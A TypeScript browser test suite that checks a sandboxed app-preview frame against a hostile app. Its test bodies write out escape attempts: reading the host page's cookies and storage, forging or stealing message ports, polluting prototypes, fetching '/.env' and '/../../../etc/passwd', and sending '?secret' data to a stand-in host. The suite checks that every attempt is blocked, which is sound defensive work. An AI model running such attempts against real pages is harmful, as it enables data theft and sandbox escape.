import {afterAll, beforeAll, describe, expect, test} from 'vitest';
import {TestPage} from './browser-page.test-support.js';
import {typeScriptProject} from './sample-projects.test-support.js';

/*
 * The app is hostile: it runs in the same realm as our frame script, can undo every shim of ours, and knows how this
 * library works. `real` is the unshimmed window.
 */

let site: TestPage;
let origin: string;

beforeAll(async () => {
  site = await TestPage.open();
  origin = new URL(site.page.url()).origin;
});
afterAll(() => site?.close());

/** Runs each body in the app, and answers its value, or `blocked` with the error's name. */
async function attack(
  bodies: Record<string, string>,
  options: Parameters<TestPage['start']>[1] = {},
): Promise<Record<string, unknown>> {
  const attempts = Object.entries(bodies).map(
    ([name, body]) => `await attempt(${JSON.stringify(name)}, async () => {${body}});`,
  );
  const code = `const real = (0, eval)('window');
const results: Record<string, unknown> = {};
const nested = () => { const frame = document.createElement('iframe'); document.body.append(frame); return frame; };
const loaded = (element: HTMLElement) => new Promise((resolve, reject) => { element.onload = () => resolve('loaded'); element.onerror = () => reject(new Error('failed')); setTimeout(() => reject(new Error('silent')), 700); });
async function attempt(name: string, run: () => Promise<unknown>) {
  try { const value = await run(); results[name] = value === undefined ? 'undefined' : value; }
  catch (error) { results[name] = 'blocked ' + (error as Error).name; }
}
const origin = ${JSON.stringify(origin)};
${attempts.join('\n')}
console.log('RESULTS ' + JSON.stringify(results));`;
  await site.start({...typeScriptProject, 'src/main.ts': code}, options);
  await expect.poll(async () => (await resultsOf()) !== undefined, {timeout: 20_000}).toBe(true);
  return JSON.parse((await resultsOf())!) as Record<string, unknown>;
}

async function resultsOf(): Promise<string | undefined> {
  return (await said('RESULTS '))?.slice('RESULTS '.length);
}

/** The first console message that begins so. */
async function said(beginning: string): Promise<string | undefined> {
  const {messages} = await site.lab();
  const found = messages.find((message) => message.type === 'console' && message.text.startsWith(beginning));
  return found?.type === 'console' ? found.text : undefined;
}

/** Finds our port, as any code in the frame can. */
const stealPort = `let stolen: MessagePort | undefined;
  const native = real.MessagePort.prototype.postMessage;
  real.MessagePort.prototype.postMessage = function (...values: unknown[]) { stolen = this; return native.apply(this, values); };
  console.log('x');
  real.MessagePort.prototype.postMessage = native;`;

const blocked = expect.stringMatching(/^blocked/);

describe('the host page', () => {
  const attacks: Record<string, [body: string, expected: unknown]> = {
    'has no origin': ['return real.origin', 'null'],
    'reads the DOM around it': ['return real.parent.document.title', blocked],
    'reads a global of the page': ['return real.parent.secret', blocked],
    'reads the storage of the page': ["return real.top.localStorage.getItem('secret')", blocked],
    'finds its own frame element': ['return String(real.frameElement)', 'null'],
    'lifts its sandbox': ["real.frameElement.removeAttribute('sandbox')", blocked],
    'reads cookies with the native getter': [
      "return Object.getOwnPropertyDescriptor(nested().contentWindow!['Document' as never]['prototype'], 'cookie')!.get!.call(document)",
      blocked,
    ],
    'reads native storage through a nested frame': [
      "return nested().contentWindow!.localStorage.getItem('secret')",
      blocked,
    ],
    'gives a nested frame an origin': [
      "const frame = document.createElement('iframe'); frame.setAttribute('sandbox', 'allow-scripts allow-same-origin'); frame.srcdoc = '<p>'; document.body.append(frame); await loaded(frame); return frame.contentWindow!.localStorage.length",
      blocked,
    ],
    'opens a database': [
      "await new Promise((resolve, reject) => { const request = real.indexedDB.open('x'); request.onsuccess = resolve; request.onerror = () => reject(request.error); })",
      blocked,
    ],
    'opens a cache': ["await real.caches.open('x')", blocked],
    'registers a service worker': [
      "await real.navigator.serviceWorker.register(origin + '/runtime.js')",
      blocked,
    ],
    'shares a worker': ["new real.SharedWorker('data:text/javascript,')", blocked],
    'takes the domain of the page': ["document.domain = '127.0.0.1'", blocked],
    'reads the clipboard': ['await real.navigator.clipboard.readText()', blocked],
    'opens the camera': ['await real.navigator.mediaDevices.getUserMedia({video: true})', blocked],
    'asks where the reader is': [
      'await new Promise((resolve, reject) => real.navigator.geolocation.getCurrentPosition(resolve, (error) => reject(new Error(error.message))))',
      blocked,
    ],
    'asks the site with its cookies': [
      "return (await nested().contentWindow!.fetch(origin + '/api/me', {credentials: 'include'})).status",
      blocked,
    ],
    'asks the site without reading': [
      "return (await nested().contentWindow!.fetch(origin + '/api/me', {credentials: 'include', mode: 'no-cors'})).type",
      blocked,
    ],
    'asks the site by an image': [
      "const image = new real.Image(); image.src = origin + '/api/me'; return loaded(image)",
      blocked,
    ],
    'asks the site by a script': [
      "const script = document.createElement('script'); script.src = origin + '/runtime.js'; document.head.append(script); return loaded(script)",
      blocked,
    ],
    'imports a module of the site': [
      "await real.eval('import(' + JSON.stringify(origin + '/runtime.js') + ')')",
      blocked,
    ],
    'asks the site from a worker': [
      "return new Promise((resolve) => { const code = 'fetch(' + JSON.stringify(origin + '/api/me') + ').then(() => postMessage(\"read\"), () => postMessage(\"blocked\"))'; const worker = new Worker(URL.createObjectURL(new Blob([code]))); worker.onmessage = (event) => resolve(event.data); worker.onerror = () => resolve('blocked'); })",
      'blocked',
    ],
    'opens a window': [
      'const opened = nested().contentWindow!.open(origin); return opened === null ? Promise.reject(new Error()) : opened.closed',
      blocked,
    ],
    'finds the nonce of its document': ["return String(document.querySelector('[data-setup]'))", 'null'],
    'reads a secret of the build': ["return (await fetch('/.env')).status", 404],
    'climbs out of the project': ["return (await fetch('/../../../etc/passwd')).status", 404],
  };

  test('nothing of it can be reached', async () => {
    const pages = await site.browser.pageCount();
    const bodies = Object.fromEntries(Object.entries(attacks).map(([name, [body]]) => [name, body]));
    const expected = Object.fromEntries(Object.entries(attacks).map(([name, [, result]]) => [name, result]));
    expect(await attack(bodies)).toEqual(expected);
    expect(site.cookies.filter((request) => request.startsWith('/api/me'))).toEqual([]);
    expect(await site.browser.pageCount()).toBe(pages);
  });

  test.each([
    [
      'by assignment',
      'real.top.location = origin + "/gone"; await new Promise((resolve) => setTimeout(resolve, 200));',
    ],
    [
      'by a link',
      "const link = document.createElement('a'); link.href = origin + '/gone'; link.target = '_top'; document.body.append(link); real.HTMLElement.prototype.click.call(link); await new Promise((resolve) => setTimeout(resolve, 200));",
    ],
    [
      'by a form',
      "const form = document.createElement('form'); form.action = origin + '/gone'; form.target = '_top'; document.body.append(form); real.HTMLFormElement.prototype.submit.call(form); await new Promise((resolve) => setTimeout(resolve, 200));",
    ],
    [
      'back in its history',
      'nested().contentWindow!.history.back(); await new Promise((resolve) => setTimeout(resolve, 200));',
    ],
  ])('is not navigated %s', async (_, body) => {
    const before = site.page.url();
    await attack({navigate: body});
    expect(site.page.url()).toBe(before);
    expect(await site.page.title()).toBe('HOST PAGE');
  });
});

describe('messages', () => {
  test('forged ones reach nobody', async () => {
    await site.page.evaluate(() => {
      Object.assign(window, {heard: []});
      const channel = new BroadcastChannel('host');
      channel.onmessage = (event) => (window as unknown as {heard: unknown[]}).heard.push(event.data);
    });
    const results = await attack({
      'a second hello': `const {port1, port2} = new MessageChannel();
        let answers = 0; port1.onmessage = () => answers++;
        real.parent.postMessage({type: 'codecraft-frame', nonce: 'guess'}, '*', [port2]);
        await new Promise((resolve) => setTimeout(resolve, 200)); return answers;`,
      'answers in the name of the worker': `for (const message of [{type: 'server-ready', port: 1, url: 'x'}, {type: 'result', id: 1}, {type: 'document', document: 99, nonce: '', html: '<h1>forged</h1>'}]) real.parent.postMessage(message, '*');
        await new Promise((resolve) => setTimeout(resolve, 200));`,
      'a broadcast':
        "new real.BroadcastChannel('host').postMessage('x'); await new Promise((resolve) => setTimeout(resolve, 200));",
      'the port, taken from under our feet': `${stealPort}
        for (const message of [null, 1, {type: 'failed', kind: 'compile', message: 'forged'}, {type: 'server-ready'}, {type: 'storage', area: '__proto__', key: 'polluted', value: 'yes'}]) stolen!.postMessage(message);
        await new Promise((resolve) => setTimeout(resolve, 200)); return stolen !== undefined;`,
    });
    expect(results['a second hello']).toBe(0);
    expect(results['the port, taken from under our feet']).toBe(true);
    const {messages} = await site.lab();
    expect(messages.filter(({type}) => type === 'failed')).toEqual([]);
    expect(await site.page.evaluate(() => (window as unknown as {heard: unknown[]}).heard)).toEqual([]);
    expect(await site.page.evaluate(() => 'polluted' in Object.prototype)).toBe(false);
    expect(await site.text('body')).not.toContain('forged');
  });

  test('another runtime on the page is out of reach', async () => {
    await site.start(
      {
        ...typeScriptProject,
        'src/main.ts': "localStorage.setItem('mine', 'second'); document.body.append('second');",
      },
      {place: 'second'},
    );
    const results = await attack({
      'its document': 'return real.parent.frames[0].document.title + real.parent.frames[1].document.title',
      'its storage': "return localStorage.getItem('mine')",
    });
    expect(results).toEqual({'its document': blocked, 'its storage': null});
    await site.page.evaluate(() => labs['second']!.runtime.teardown());
  });

  /** Sends on our own port: the browser's console would slow the flood down. */
  const flood = (count: number) => `${stealPort}
    for (let i = 0; i < ${count}; i++) stolen!.postMessage({type: 'console', level: 'debug', text: 'flood'});`;

  test('too many of them are left out, and the app goes on', async () => {
    await attack({flood: `${flood(20_000)} await new Promise((resolve) => setTimeout(resolve, 1500));`});
    const {messages} = await site.lab();
    expect(messages.length).toBeLessThan(15_000);
    expect(messages).toContainEqual(
      expect.objectContaining({level: 'warn', text: expect.stringContaining('Some were left out')}),
    );
    expect(await site.edit({'src/main.ts': "document.body.textContent = 'calm';"})).toMatchObject({
      kind: 'reload',
    });
    expect(await site.text('body')).toContain('calm');
  });

  test('an app that does not stop sending is cut off, and the next change starts it again', async () => {
    const code = `const real = window; setTimeout(() => { ${flood(80_000)} }, 100);`;
    await site.start({...typeScriptProject, 'src/main.ts': code});
    const cutOff = site.nextMessage('failed');
    expect(await site.hostTicks()).toBeGreaterThan(0);
    expect(await cutOff).toMatchObject({message: expect.stringContaining('too many messages')});
    expect(await site.edit({'src/main.ts': "document.body.textContent = 'calm';"})).toEqual({
      type: 'recovered',
    });
    expect(await site.text('body')).toContain('calm');
  });
});

describe('the network', () => {
  const requests: Record<string, string> = {
    fetch: "await real.fetch('https://outside.example/fetch')",
    beacon: "return real.navigator.sendBeacon('https://outside.example/beacon')",
    image:
      "const image = new real.Image(); image.src = 'https://outside.example/image'; return loaded(image)",
    script:
      "const script = document.createElement('script'); script.src = 'https://outside.example/script'; document.head.append(script); return loaded(script)",
    style:
      "const link = document.createElement('link'); link.rel = 'stylesheet'; link.href = 'https://outside.example/style'; document.head.append(link); return loaded(link)",
    prefetch:
      "const link = document.createElement('link'); link.rel = 'prefetch'; link.href = 'https://outside.example/prefetch'; document.head.append(link); return loaded(link)",
    frame:
      "const frame = document.createElement('iframe'); frame.src = 'http://outside.example/frame'; document.body.append(frame); await new Promise((resolve) => setTimeout(resolve, 300));",
    socket:
      "return new Promise((resolve) => { const socket = new real.WebSocket('wss://outside.example/socket'); socket.onopen = () => resolve('open'); socket.onerror = () => resolve('closed'); })",
    'event source':
      "return new Promise((resolve) => { const source = new real.EventSource('https://outside.example/events'); source.onopen = () => resolve('open'); source.onerror = () => resolve('closed'); })",
    worker:
      'const code = \'fetch("https://outside.example/worker").catch(() => 0)\'; new Worker(URL.createObjectURL(new Blob([code]))); await new Promise((resolve) => setTimeout(resolve, 300));',
  };
  test('none: no request leaves', async () => {
    site.outside.length = 0;
    await attack(requests, {network: 'none'});
    expect(site.outside).toEqual([]);
  });

  test.each([
    ['by assignment', "(0, eval)('window').location.href = 'http://outside.example/?secret'"],
    [
      'by a form',
      "const form = document.createElement('form'); form.action = 'http://outside.example/'; document.body.append(form); HTMLFormElement.prototype.submit.call(form);",
    ],
    ['by the frame around it', "(0, eval)('window').parent.location.href = 'http://outside.example/?secret'"],
    [
      'by a refresh',
      "const meta = document.createElement('meta'); meta.httpEquiv = 'refresh'; meta.content = '0;url=http://outside.example/'; document.head.append(meta);",
    ],
  ])('none: no request leaves by leaving the page %s', async (_, code) => {
    site.outside.length = 0;
    await site.start(
      {
        ...typeScriptProject,
        'src/main.ts': `setTimeout(() => {${code}}, 50); setTimeout(() => console.log('still here'), 1000);`,
      },
      {network: 'none'},
    );
    // Chromium leaves an error page behind, which is noticed; in Firefox nothing happens at all.
    const outcome = async () => (await site.failure()) ?? (await said('still here'));
    await expect.poll(outcome, {timeout: 10_000}).toBeDefined();
    expect(site.outside).toEqual([]);
  });

  test('an app that leads its frame away is noticed, and the next change starts it again', async () => {
    const code = `setTimeout(() => { (0, eval)('window').location.href = '${origin}/api/me'; }, 50);`;
    await site.start({...typeScriptProject, 'src/main.ts': code});
    await expect.poll(() => site.failure(), {timeout: 10_000}).toContain('another address');
    await expect.poll(() => site.text('body'), {timeout: 10_000}).toContain('The app left the preview');
    expect(await site.edit({'src/main.ts': "document.body.textContent = 'back';"})).toEqual({
      type: 'recovered',
    });
    expect(await site.text('body')).toContain('back');
  });

  test('none: the app itself works as ever', async () => {
    expect((await site.start(typeScriptProject, {network: 'none'})).outcome).toBe('painted');
    expect(JSON.parse(await site.text('#facts'))).toMatchObject({awaited: 'awaited', isTop: true});
    expect(await site.edit({'src/style.css': '#app { color: rgb(9, 9, 9); }'})).toMatchObject({
      kind: 'style',
    });
  });

  test('open: https hosts can be reached, this computer and the local network cannot', async () => {
    site.outside.length = 0;
    await attack({
      https: "await real.fetch('https://outside.example/data')",
      http: "await real.fetch('http://outside.example/data')",
      local: "await real.fetch('http://192.168.1.1/')",
    });
    expect(site.outside).toEqual(['https://outside.example']);
  });
});
